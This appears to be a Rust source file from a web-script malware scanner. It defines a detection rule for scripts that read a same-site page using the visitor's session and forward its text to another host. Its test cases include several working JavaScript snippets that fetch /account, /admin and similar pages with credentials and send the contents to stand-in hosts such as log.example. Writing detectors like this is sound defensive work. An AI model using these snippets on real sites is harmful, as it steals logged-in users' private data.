//! `page-read-for-stranger`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "page-read-for-stranger",
    description: "The script reads a page of the site with the session of the visitor and sends its text to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::PageTextWrapped, Atom::PageTextForwarded]),
        one(&[Atom::SentAbroad, Atom::SentAway]),
    ],
    within: 80,
    only_if: Some(reads_site),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"setInterval(async()=>{const r=await fetch('http://cats.example',{cache:'no-store'});const t=await r.text();fetch('http://10.6.0.5/log',{method:'post',body:t})},2000)"#,
            r#"fetch('/me',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('https://log.example/p',{method:'POST',mode:'no-cors',body:t}))"#,
            r#"fetch('/account',{credentials:'include'}).then(r=>r.text()).then(t=>{location='https://log.example/?k='+encodeURIComponent(t)})"#,
            r#"var q=new XMLHttpRequest;q.onload=function(){new Image().src='//log.example/x?d='+btoa(this.responseText)};q.open('get','/details',true);q.withCredentials=true;q.send()"#,
            r#"var a=new XMLHttpRequest();a.open('GET','/admin',false);a.send();var b=new XMLHttpRequest();b.open('GET','https://log.example/?r='+btoa(a.responseText),false);b.send()"#,
        ],
        without: &[
            r#"fetch('/readme.md').then(r=>r.text()).then(t=>fetch('https://render.example/markdown',{method:'POST',body:t}))"#,
            r#"fetch('/logo.svg').then(r=>r.text()).then(t=>{img.src='data:image/svg+xml;base64,'+btoa(t)})"#,
            r#"fetch('https://api.example/ip').then(r=>r.text()).then(t=>fetch('https://geo.example/?ip='+encodeURIComponent(t)))"#,
        ],
    },
};

fn reads_site(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 140);
    let own = near.words(&["fetch", "open", "get"]).any(|at| {
        near.is(at + 1, b'(')
            && (at + 2..at + 5).any(|at| {
                let text = near.word(at);
                matches!(near.kind(at), Some(Kind::Str | Kind::Template))
                    && text.starts_with('/')
                    && !text.starts_with("//")
            })
    });
    let session = near.has_word(&["withCredentials"]) || near.has(&["include"]);
    if Near::is_place_of(evidence, held, &[Atom::PageTextWrapped]) {
        return own || session;
    }
    // What is handed on as it is may be on its way to a service: it is not where nobody looks at the answer of a page that is read with
    // a session, or again and again from whatever host the name stands for.
    near.has(&["no-cors"]) && (own || session) || near.has(&["no-store"]) && near.has_fact(&[Atom::Repeat])
}
